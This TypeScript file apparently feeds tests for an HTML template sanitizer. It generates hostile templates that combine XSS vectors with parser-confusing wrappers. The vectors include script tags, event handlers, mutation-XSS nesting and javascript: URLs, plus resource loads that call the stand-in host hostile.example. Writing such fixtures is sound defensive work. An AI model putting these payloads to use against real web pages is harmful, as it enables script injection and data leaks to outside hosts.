const host = 'https://hostile.example'
const script = "globalThis.hostile='ran';parent.hostile='ran';top.hostile='ran';alert(1)"

/** Ways to run a script, by element, attribute and parser. */
const scripts = [
  `<script>${script}</script>`,
  `<script src="${host}/a.js"></script>`,
  `<SCRIPT/x>${script}</SCRIPT >`,
  `<scr<script>ipt>${script}</script>`,
  `<svg><script>${script}</script></svg>`,
  `<svg onload="${script}"></svg>`,
  `<svg/onload=${script}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${script}"></style></mglyph></table></mtext></math>`,
  `<svg><style><img src=x onerror="${script}"></style></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>"></noscript>`,
  `<title><img src=x onerror="${script}"></title>`,
  `<textarea><img src=x onerror="${script}"></textarea>`,
  `<xmp><img src=x onerror="${script}"></xmp><plaintext><script>${script}</script>`,
  `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  `<iframe src="javascript:${script}"></iframe>`,
  `<object data="javascript:${script}"></object>`,
  `<embed src="data:text/html,<script>${script}</script>">`,
  `<form action="javascript:${script}"><button autofocus>a</button></form>`,
  `<template><script>${script}</script></template>`,
  `<img src=x onerror="${script}">`,
  `<details open ontoggle="${script}"><summary>a</summary></details>`,
  `<body onload="${script}" onpageshow="${script}">`,
  `<a href="java&#10;script:${script}">a</a>`,
  `<select><script>${script}</script></select>`,
  `<!--><script>${script}</script>-->`,
  `<![CDATA[<script>${script}</script>]]>`,
  `<?xml-stylesheet href="${host}/a.xsl"?><script>${script}</script>`,
  `<p style="width:expression(${script})">a</p>`,
]

/** Ways to fetch something. */
const fetches = [
  `<img src="${host}/a.png">`,
  `<img srcset="${host}/a.png 2x">`,
  `<picture><source srcset="${host}/a.png"><img></picture>`,
  `<link rel="stylesheet" href="${host}/a.css">`,
  `<link rel="preconnect" href="${host}"><link rel="dns-prefetch" href="${host}">`,
  `<link rel="preload" as="image" href="${host}/a.png"><link rel="prefetch" href="${host}/a">`,
  `<style>@import "${host}/a.css";</style>`,
  `<style>@font-face{font-family:a;src:url(${host}/a.woff2)}p{font-family:a}</style>`,
  `<style>p{background:url(${host}/a.png)}</style>`,
  `<p style="background-image:url('${host}/a.png')">a</p>`,
  `<p style="background:u\\72l(${host}/a.png)">a</p>`,
  `<p style="background:image-set('${host}/a.png' 1x)">a</p>`,
  `<table background="${host}/a.png"><tr><td>a</td></tr></table>`,
  `<video src="${host}/a.mp4" poster="${host}/a.png" autoplay></video>`,
  `<audio src="${host}/a.mp3" autoplay></audio>`,
  `<iframe src="${host}"></iframe>`,
  `<object data="${host}"></object>`,
  `<embed src="${host}">`,
  `<svg><image href="${host}/a.png"/><use href="${host}/a.svg#a"/></svg>`,
  `<meta http-equiv="refresh" content="0;url=${host}">`,
  `<base href="${host}"><img src="a.png">`,
  `<a href="${host}" ping="${host}/ping">a</a>`,
  `<form action="${host}" method="post"><input type="image" src="${host}/a.png"></form>`,
  `<input type="image" src="${host}/a.png">`,
]

/** What is around a template to lead a parser astray. */
const frames: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `<table><tr><td>${payload}`,
  (payload) => `<p title="a>b">${payload}</p>`,
  (payload) => `<!-- a --!>${payload}<!-- b -->`,
  (payload) => `<style>p{color:red}</style>${payload}<p style='color:"red`,
  (payload) => `{{service}}${payload}{{/service}}{{#panel}}`,
]

/** Templates that try to run a script or to fetch something. */
export const hostileTemplates = (): string[] =>
  [...scripts, ...fetches].flatMap((payload) => frames.map((frame) => frame(payload)))
